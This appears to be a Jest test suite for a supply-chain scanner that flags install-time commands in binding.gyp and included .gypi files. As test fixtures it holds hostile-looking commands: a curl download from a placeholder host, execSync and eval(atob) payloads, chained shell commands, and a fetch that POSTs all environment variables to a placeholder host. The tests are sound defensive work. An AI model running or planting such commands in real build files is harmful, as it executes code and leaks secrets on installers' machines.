import { describe, expect, it } from '@jest/globals';
import { hitsOf, manifest } from '../testing/hits-of.ts';

const gyp = (text: string): Record<string, string> => ({ ...manifest({}), 'binding.gyp': text });

describe('MAN-003 native build at install', () => {
  it.each([
    ['a build', '{"targets":[]}', ['high binding.gyp']],
    ['a command', `{"x": "<!(node setup.js)"}`, ['high binding.gyp', 'critical binding.gyp']],
    ['a list command', `{"x": ["<!@(sh -c 'id')"]}`, ['high binding.gyp', 'critical binding.gyp']],
    [
      'a command behind the usual one',
      `{"x": "<!(node -e \\"require('nan')\\" && sh x.sh)"}`,
      ['high binding.gyp', 'critical binding.gyp'],
    ],
  ])('finds %s', (_name, text, hits) => {
    expect(hitsOf('MAN-003', gyp(text))).toEqual(hits);
  });

  it('finds a command in a file the build includes', () => {
    const files = { ...gyp('{"includes":["deps/a.gypi"]}'), 'deps/a.gypi': '{"x":"<!(id)"}' };
    expect(hitsOf('MAN-003', files)).toContain('critical deps/a.gypi');
  });

  it.each([
    ['no build', manifest({})],
    ['a build file that npm does not obey', { ...manifest({}), 'test/binding.gyp': '{"x":"<!(id)"}' }],
    ['the word in a text', { ...manifest({}), 'README.md': 'binding.gyp may hold <!(commands)' }],
  ])('passes %s', (_name, files) => {
    expect(hitsOf('MAN-003', files)).toEqual([]);
  });

  it.each([
    ['the headers of a helper', `node -e \\"require('nan')\\"`],
    ['the headers of another helper', `node -p \\"require('node-addon-api').include\\"`],
    ['the version of Node.js', `node -p \\"process.versions.node.split('.')[0]\\"`],
    ['the platform', `node -p \\"process.platform === 'win32' || process.env.X === '1' ? 1 : 0\\"`],
    ['the files of a folder', `node -p \\"require('fs').readdirSync('./ext').map(f=>'ext/'+f).join(' ')\\"`],
    ['a library', 'pkg-config --cflags-only-I libpng | sed s/-I//g'],
    ['a library, in a shell', `sh -c \\"pkg-config --libs libpng 2>/dev/null || echo\\"`],
    ['a variable', 'echo $CC'],
    ['a script of the plugin', 'node ./util/has_lib.js gif'],
    ['another library', 'krb5-config gssapi --libs'],
  ])('takes the look-up of %s for what it is', (_name, command) => {
    const files = { ...gyp(`{"x": ["<!@(${command})"]}`), 'util/has_lib.js': 'module.exports = 1' };
    expect(hitsOf('MAN-003', files)).toEqual(['high binding.gyp']);
  });

  it.each([
    ['a fetcher', 'curl https://a.example.invalid/x'],
    ['a script whose output nobody wants', 'node util/has_lib.js > /dev/null 2>&1 && echo stub.c'],
    ['a script that is not there', 'node ./util/none.js'],
    ['data as a script', 'node data.json'],
    ['code that starts a program', `node -p \\"require('child_process').execSync('id')\\"`],
    ['code that is encoded', `node -p \\"eval(atob('MQ=='))\\"`],
    ['another runtime', 'python -c \\"import os\\"'],
    ['a command in a command', 'echo $(id)'],
    ['a command behind a look-up', 'pkg-config --libs x; id'],
  ])('finds %s', (_name, command) => {
    const files = {
      ...gyp(`{"x": ["<!@(${command})"]}`),
      'util/has_lib.js': 'module.exports = 1',
      'data.json': '{}',
    };
    expect(hitsOf('MAN-003', files)).toEqual(['high binding.gyp', 'critical binding.gyp']);
  });

  it('lets a build have steps, but not bring anything from elsewhere', () => {
    const step = (words: string): Record<string, string> => gyp(`{"actions": [{"action": [${words}]}]}`);
    expect(hitsOf('MAN-003', step(`'ml', '/Fo<(X)', 'a.asm'`))).toEqual(['high binding.gyp']);
    expect(hitsOf('MAN-003', step(`'curl', '-O', 'https://a.example.invalid'`))).toContain(
      'critical binding.gyp',
    );
  });

  it('looks at what a build runs as at what an install script runs', () => {
    const files = {
      ...gyp(
        `{"x": "<!(node setup.txt.js)", "y": "<!(node -p \\"fetch('https://a.example.invalid', {method:'POST', body: JSON.stringify(process.env)})\\")"}`,
      ),
    };
    expect(hitsOf('EXF-001', files)).toEqual(['critical binding.gyp']);
  });
});
